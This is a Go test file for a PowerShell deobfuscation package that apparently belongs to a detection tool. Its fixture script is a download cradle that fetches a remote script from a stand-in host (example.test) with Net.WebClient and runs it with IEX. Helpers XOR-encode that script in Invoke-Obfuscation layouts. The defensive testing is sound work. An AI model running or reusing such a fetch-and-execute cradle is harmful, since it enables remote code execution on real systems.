package deobfuscate

import (
	"strconv"
	"strings"
	"testing"
)

// Self-made samples in the layouts Invoke-Obfuscation's ENCODING menu
// writes, built here from a short script so that no corpus content is
// needed. The generators are deliberately plain.

// psencScript is the script the samples encode.
const psencScript = `$wc = New-Object Net.WebClient; $wc.Headers.Add('User-Agent','vigil-test'); IEX $wc.DownloadString("http://example.test/a.ps1")`

// psencCodes writes the character codes of s in base, XORed with key and
// joined by the separators, used in turn.
func psencCodes(s string, base int, key int, seps ...string) string {
	var b strings.Builder
	for i, r := range s {
		if i > 0 {
			b.WriteString(seps[i%len(seps)])
		}
		b.WriteString(strconv.FormatInt(int64(int(r)^key), base))
	}
	return b.String()
}

// psencLaunch wraps a script body in a powershell "..." launcher with the
// inner double quotes escaped for cmd.exe.
func psencLaunch(body string) string {
	return `powershell  "` + strings.ReplaceAll(body, `"`, `\"`) + `"`
}

func TestPSEncLauncherBody(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"launcher with escaped quotes", `powershell  "iex \"a\""`, `iex "a"`},
		{"exe and options", `powershell.exe -nop "x"`, `x`},
		{"not a launcher", `iex "a"`, `iex "a"`},
		{"unterminated", `powershell "x`, `powershell "x`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := psencLauncherBody(tc.in); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestPSEncIndexFold(t *testing.T) {
	for _, tc := range []struct {
		s, sub string
		want   int
	}{
		{"ConvertTo-SecureString", "securestring", 10},
		{"FROMBASE64STRING(", "frombase64string", 0},
		{"abc", "abcd", -1},
		{"", "a", -1},
	} {
		if got := psencIndexFold(tc.s, tc.sub); got != tc.want {
			t.Errorf("psencIndexFold(%q, %q) = %d, want %d", tc.s, tc.sub, got, tc.want)
		}
	}
}

func TestPSEncLongestQuoted(t *testing.T) {
	s := `-join'' + ('12a34' + 'ab''cd' + '1a2a3a4a5')`
	sp, ok := psencLongestQuoted(s, psencCodeString)
	if !ok || s[sp.start:sp.end] != "1a2a3a4a5" {
		t.Fatalf("got %v %q", ok, s[sp.start:sp.end])
	}
}

func TestPSEncSplitArgs(t *testing.T) {
	got := psencSplitArgs(`'x'.Split('ab') -split 'c' -CSplit 'D' -isplit 'e'`)
	want := []psencSplitArg{{"ab", false}, {"c", true}, {"D", false}, {"e", true}}
	if len(got) != len(want) {
		t.Fatalf("got %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("arg %d = %v, want %v", i, got[i], want[i])
		}
	}
}

// BenchmarkPSEncPlainCommand measures what the psenc decoders cost on an
// ordinary command line: only their prechecks run.
func BenchmarkPSEncPlainCommand(b *testing.B) {
	in := `powershell -NoProfile -Command "Get-ChildItem C:\Users -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length"`
	fns := []func(string) (string, bool){PSEncCharCodes, PSEncWhitespace, PSEncSecureString, PSEncCompressed, PSEncSpecialChar}
	b.ReportAllocs()
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		for _, fn := range fns {
			fn(in)
		}
	}
}
